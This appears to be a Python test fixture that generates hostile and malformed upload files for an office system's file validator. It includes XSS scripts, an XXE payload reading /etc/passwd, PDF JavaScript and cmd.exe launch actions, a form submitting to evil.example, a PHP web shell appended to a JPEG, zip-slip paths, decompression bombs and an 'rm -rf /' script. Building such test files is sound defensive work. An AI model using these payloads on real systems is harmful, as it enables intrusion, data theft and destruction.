"""Hostile and broken files, made in memory: what people must never be able to leave in the office's hands."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf

from tests.ghs.files.factories import image, package, pdf, saved, workbook, workbook_with

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook>&e;</workbook>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><workbook>&b;</workbook>'
SCRIPT = {"S": "/JavaScript", "JS": "app.alert(1)"}


def every() -> Iterator[tuple[str, bytes]]:
    """Return each file under the name a person would upload it with."""
    yield from pdfs()
    yield from pictures()
    yield from workbooks()
    yield from strangers()


def pdfs() -> Iterator[tuple[str, bytes]]:
    """PDFs that act, that are locked, broken, or something else as well."""
    good = pdf()
    yield "javascript.pdf", pdf(OpenAction=SCRIPT)
    yield "javascript-names.pdf", pdf(Names={"JavaScript": {"Names": ["x", SCRIPT]}})
    yield "javascript-on-page.pdf", pdf(AA={"O": SCRIPT})
    yield "launch.pdf", pdf(OpenAction={"S": "/Launch", "F": "cmd.exe"})
    yield "embedded.pdf", pdf(Names={"EmbeddedFiles": {"Names": []}})
    yield "richmedia.pdf", pdf(OpenAction={"S": "/RichMedia"})
    yield "submit-form.pdf", pdf(OpenAction={"S": "/SubmitForm", "F": "https://evil.example/"})
    yield "import-data.pdf", pdf(OpenAction={"S": "/ImportData", "F": "x.fdf"})
    yield "locked.pdf", saved(pikepdf.open(io.BytesIO(good)), encryption=pikepdf.Encryption(owner="o", user="u"))
    yield "restricted.pdf", saved(pikepdf.open(io.BytesIO(good)), encryption=pikepdf.Encryption(owner="o", user=""))
    yield "cut.pdf", good[: len(good) // 2]
    yield "head-only.pdf", b"%PDF-1.7\n"
    yield "no-pages.pdf", pdf(pages=0)
    yield "html-first.pdf", HTML + good
    yield "html-behind.pdf", good + HTML
    yield "zip-behind.pdf", good + package("a.exe", b"MZ")
    yield "gif-first.pdf", b"GIF89a" + good
    yield "noise.pdf", b"%PDF-1.4\n" + bytes(range(256)) * 8


def pictures() -> Iterator[tuple[str, bytes]]:
    """Pictures that are bombs, broken, of other kinds, or carry something."""
    png, jpeg = image(), image("JPEG")
    yield "script.svg", SVG
    yield "script.png", SVG
    yield "page.png", HTML
    yield "page.jpg", HTML
    yield "magic-only.png", b"\x89PNG\r\n\x1a\n"
    yield "magic-and-page.png", b"\x89PNG\r\n\x1a\n" + HTML
    yield "cut.png", png[: len(png) // 2]
    yield "cut.jpg", jpeg[: len(jpeg) // 3]
    yield "pixels.png", pixel_flood(20_000, 20_000)
    yield "wide.png", pixel_flood(2_000_000, 30)
    yield "zip-behind.png", png + package("a.exe", b"MZ")
    yield "page-behind.png", png + HTML
    yield "zip-behind.jpg", jpeg + package("a.exe", b"MZ")
    yield "php-behind.jpg", jpeg + b"<?php system($_GET[0]); ?>"
    yield "pdf-behind.jpg", jpeg + pdf()
    yield "animated.gif", image("GIF")
    yield "plain.bmp", image("BMP")
    yield "scan.tiff", image("TIFF")
    yield "photo.webp", image("WEBP")
    yield "icon.ico", image("ICO", (16, 16))


def workbooks() -> Iterator[tuple[str, bytes]]:
    """Workbooks with programs, bombs, ways out of the archive, and what only looks like one."""
    good = workbook()
    yield "macro.xlsx", workbook_with("xl/vbaProject.bin", b"x")
    yield "macro.xlsm", workbook_with("xl/vbaProject.bin", b"x")
    yield "excel4.xlsx", workbook_with("xl/macrosheets/sheet1.xml", b"<x/>")
    yield "control.xlsx", workbook_with("xl/activeX/activeX1.xml", b"<x/>")
    yield "embedded.xlsx", workbook_with("xl/embeddings/oleObject1.bin", OLE)
    yield "program.xlsx", workbook_with("xl/media/setup.exe", b"MZ")
    yield "bomb.xlsx", workbook_with("xl/media/zeros.bin", bytes(60_000_000))
    yield "slip.xlsx", workbook_with("../../etc/cron.d/x", b"x")
    yield "backslash.xlsx", workbook_with("..\\..\\x", b"x")
    yield "absolute.xlsx", workbook_with("/etc/passwd", b"x")
    yield "drive.xlsx", workbook_with("C:/x", b"x")
    yield "symlink.xlsx", workbook_with_link()
    yield "xxe.xlsx", workbook_with("docProps/evil.xml", XXE)
    yield "laughs.xlsx", workbook_with("customXml/item1.xml", LAUGHS)
    yield "xxe-book.xlsx", package("xl/workbook.xml", XXE)
    yield "empty-book.xlsx", package("xl/workbook.xml", b"")
    yield "cut.xlsx", good[: len(good) // 2]
    yield "jpeg-first.xlsx", image("JPEG") + good
    yield "page-behind.xlsx", good + HTML
    yield "locked.xlsx", OLE
    yield "old.xls", OLE
    yield "letter.docx", package("word/document.xml", b"<x/>")
    yield "archive.zip", package("a.txt", b"a")
    yield "nested.zip", package("a.zip", package("b.zip", package("c", bytes(1000))))


def strangers() -> Iterator[tuple[str, bytes]]:
    """Files of other kinds under trusted names."""
    yield "empty.pdf", b""
    yield "nul.pdf", bytes(1000)
    yield "program.pdf", b"MZ\x90\x00" + bytes(500)
    yield "elf.png", b"\x7fELF\x02\x01\x01" + bytes(500)
    yield "shell.pdf", b"#!/bin/sh\nrm -rf /\n"
    yield "letter.rtf.pdf", b"{\\rtf1 x}"
    yield "mail.pdf", b"From: a@b.example\r\nSubject: x\r\n\r\nx"
    yield "java.xlsx", package("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0")
    yield "music.png", b"ID3\x04" + bytes(500)
    yield "archive.gz.pdf", zlib.compress(b"x" * 1000)
    yield "rar.xlsx", b"Rar!\x1a\x07\x01\x00" + bytes(300)
    yield "seven.xlsx", b"7z\xbc\xaf\x27\x1c" + bytes(300)
    yield "table.csv.xlsx", "番号,回答\n1,適合\n".encode()
    yield "postscript.pdf", b"%!PS-Adobe-3.0\n"
    yield "shortcut.pdf", b"[InternetShortcut]\r\nURL=https://evil.example/\r\n"


def pixel_flood(width: int, height: int) -> bytes:
    """Return a PNG that claims far more pixels than it has bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")


def workbook_with_link() -> bytes:
    """Return a workbook with a symbolic link inside."""
    out = io.BytesIO(workbook())
    link = zipfile.ZipInfo("xl/media/link")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(out, "a") as made:
        made.writestr(link, "/etc/passwd")
    return out.getvalue()
